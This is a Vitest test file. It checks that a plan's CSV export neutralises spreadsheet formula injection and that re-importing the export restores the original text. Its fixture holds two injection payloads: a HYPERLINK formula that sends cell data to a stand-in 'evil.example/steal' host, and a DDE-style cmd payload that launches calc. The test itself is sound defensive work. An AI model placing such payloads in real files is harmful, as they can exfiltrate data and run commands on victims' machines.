import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportHeaders, guessMapping } from '../../../src/domain/plans/table-import.js';
import { readTable } from '../../../src/features/plans/service/transfer.js';
import { openTestWorld, signIn, type TestWorld } from '../../support/web.js';
import { planWorld } from './support.js';

/** A plan's CSV export never hands a spreadsheet a formula, and still imports back as it was. */
let world: TestWorld;
let setup: Awaited<ReturnType<typeof planWorld>>;
beforeAll(async () => {
  world = await openTestWorld();
  setup = await planWorld(world);
});
afterAll(() => world.close());

const hostile = {
  area: '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for details")',
  action: '@SUM(1+1)*cmd|"/C calc"!A0',
  statusText: '+1 then -2',
  owners: '-Head of service',
};

describe('the plan CSV export', () => {
  it('writes formula-like text inert, and the import takes the apostrophe off again', async () => {
    const headers: string[] = [...exportHeaders];
    const cells = headers.map(() => '');
    const put = (label: string, value: string) => (cells[headers.indexOf(label)] = value);
    const mapping = guessMapping(exportHeaders);
    const plan = await world.services.plans.plans.create(setup.head, {
      organisationId: setup.organisation.id,
      title: 'Hostile text',
      startFrom: 'blank',
    });
    const [areaNumber, domain, , areaText, , actionText, owners, , , status, , statusText] = exportHeaders;
    put(areaNumber!, '1');
    put(domain!, 'D1 Governance');
    put(areaText!, hostile.area);
    put(actionText!, hostile.action);
    put(owners!, hostile.owners);
    put(status!, 'Not started');
    put(statusText!, hostile.statusText);
    const table = { headers, rows: [{ line: 2, cells }] };
    await world.services.plans.transfer.importTable(setup.head, plan.id, table, mapping, '2024-03-01');
    const before = await world.services.plans.transfer.exportRows(setup.head, plan.id);
    expect(before.rows[0]).toContain(hostile.area);
    expect(before.rows[0]).toContain(hostile.action);

    const head = await signIn(world, setup.head.email);
    const csv = await head.get(`/plans/${plan.id}/export.csv`);
    expect(csv.status).toBe(200);
    // Read raw, as a spreadsheet would: csv-parse without the reader's apostrophe rule.
    const records: unknown = parse(csv.text);
    const [, row] = records as string[][];
    expect(row!.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(row).toContain(`'${hostile.area}`);
    expect(row).toContain(`'${hostile.action}`);
    expect(row).toContain(`'${hostile.statusText}`);

    const copy = await world.services.plans.plans.create(setup.head, {
      organisationId: setup.organisation.id,
      title: 'Copy',
      startFrom: 'blank',
    });
    const again = await readTable({ name: 'plan.csv', bytes: Buffer.from(csv.text) });
    await world.services.plans.transfer.importTable(
      setup.head,
      copy.id,
      again,
      guessMapping(again.headers),
      '2024-03-01',
    );
    const after = await world.services.plans.transfer.exportRows(setup.head, copy.id);
    expect(after.rows).toEqual(before.rows);
  });
});
